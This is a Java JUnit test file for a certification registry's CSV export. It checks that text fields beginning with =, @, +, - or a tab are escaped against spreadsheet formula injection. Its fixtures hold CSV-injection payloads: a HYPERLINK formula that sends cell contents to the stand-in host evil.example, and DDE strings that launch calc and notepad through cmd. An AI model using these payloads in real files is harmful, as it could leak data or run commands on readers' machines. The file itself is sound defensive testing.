package cn.certflow.certificate;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import org.junit.jupiter.api.Test;

/**
 * Issue 15.5: the registry export (CNCA filings, opened in Excel or WPS) carries text
 * typed by clients and staff — holder name, address, scope, status reasons. A value that
 * a spreadsheet would take as a formula is neutralised as OWASP "CSV Injection"
 * recommends: a single quote in front, the cell quoted.
 */
class RegistryCsvInjectionTest {

	private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看证书\")";

	private static final String DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

	@Test
	void shouldPrefixEveryTextThatStartsAFormulaWithASingleQuoteAndQuoteTheCell() throws Exception {
		RegistryEntry attack = entry("PCEC-2026-000001", HYPERLINK, DDE, "+1+cmd|' /C notepad'!A0", "-2+3*cmd|x!A0");
		RegistryEntry whitespace = entry("PCEC-2026-000002", "\t=1+1 天津某某公司", "\r=1+1 天津市", "安装、维修", "投诉属实");

		String csv = csv(List.of(attack, whitespace));
		Map<String, Map<String, String>> rows = rows(csv);

		assertThat(rows.get("PCEC-2026-000001")).containsEntry("组织名称", "'" + HYPERLINK)
			.containsEntry("组织地址", "'" + DDE)
			.containsEntry("认证范围", "'+1+cmd|' /C notepad'!A0")
			.containsEntry("状态变更原因", "'-2+3*cmd|x!A0");
		assertThat(rows.get("PCEC-2026-000002")).containsEntry("组织名称", "'\t=1+1 天津某某公司")
			.containsEntry("组织地址", "'\r=1+1 天津市")
			.containsEntry("认证范围", "安装、维修")
			.containsEntry("状态变更原因", "投诉属实");
		// as the bytes go out: quoted, quote first, embedded double quotes doubled
		assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"点击查看证书\"\")\"")
			.contains("\"'@SUM(1+1)*cmd|' /C calc'!A0\"")
			.contains("\"'-2+3*cmd|x!A0\"")
			.doesNotContain(",=", ",@", ",+", ",-", ",\"=", ",\"@", ",\"+", ",\"-", ",\"\t", ",\"\r");
	}

	/**
	 * Decision: numbers are numbers (never negative here) and stay as they are; text that
	 * looks like one is text.
	 */
	@Test
	void shouldLeaveNumbersAndOrdinaryTextAlone() throws Exception {
		assertThat(RegistryExport.cell(3)).isEqualTo("3");
		assertThat(RegistryExport.cell(-5)).as("a number cannot be a formula").isEqualTo("-5");
		assertThat(RegistryExport.cell("-5")).as("text stays text in the spreadsheet").isEqualTo("'-5");
		assertThat(RegistryExport.cell(LocalDate.of(2026, 3, 10))).isEqualTo("2026-03-10");
		assertThat(RegistryExport.cell("天津某某电器服务有限公司")).isEqualTo("天津某某电器服务有限公司");
		assertThat(RegistryExport.cell("a=b")).as("only the first character starts a formula").isEqualTo("a=b");
		assertThat(RegistryExport.cell(null)).isEmpty();

		Map<String, String> row = rows(csv(List.of(entry("PCEC-2026-000003", "某某公司", "天津市", "维修", null))))
			.get("PCEC-2026-000003");
		assertThat(row).containsEntry("星级", "3").containsEntry("覆盖人数", "40").containsEntry("证书版本", "1");
	}

	@Test
	void shouldKeepTheHeaderLineAsExcelWritesIt() {
		String csv = csv(List.of(entry("PCEC-2026-000004", "某某公司", "天津市", "维修", null)));
		assertThat(csv.lines().findFirst().orElseThrow()).startsWith("证书编号,证书版本,证书状态（IAF）,");
		assertThat(csv.lines().skip(1).findFirst().orElseThrow()).startsWith("\"PCEC-2026-000004\",\"1\",\"active\",");
	}

	private static String csv(List<RegistryEntry> entries) {
		byte[] bytes = new RegistryExport(null).csv(entries);
		String text = new String(bytes, StandardCharsets.UTF_8);
		assertThat(text).startsWith(RegistryExport.BOM);
		return text.substring(1);
	}

	private static Map<String, Map<String, String>> rows(String csv) throws Exception {
		try (MappingIterator<Map<String, String>> rows = new CsvMapper().readerForMapOf(String.class)
			.with(CsvSchema.emptySchema().withHeader())
			.readValues(csv)) {
			Map<String, Map<String, String>> byNumber = new java.util.HashMap<>();
			rows.readAll().forEach(r -> byNumber.put(r.get("证书编号"), r));
			return byNumber;
		}
	}

	private static RegistryEntry entry(String number, String holder, String address, String scope, String reason) {
		LocalDate issued = LocalDate.of(2026, 3, 10);
		return new RegistryEntry(number, 1, "active", "有效", issued, reason, RegistryExport.CERTIFICATION_TYPE, "PCEC",
				"ZCXH/XZ-19-2025", "GB/T 27922-2011", "三星级", 3, holder, "91120106MA05L1234X", address, "天津", 40, scope,
				issued, issued, issued.plusYears(3).minusDays(1), "decider", "lead", "lead, auditor", 4, issued,
				"APP-2026-000001", "中创新海（天津）认证服务有限公司");
	}

}
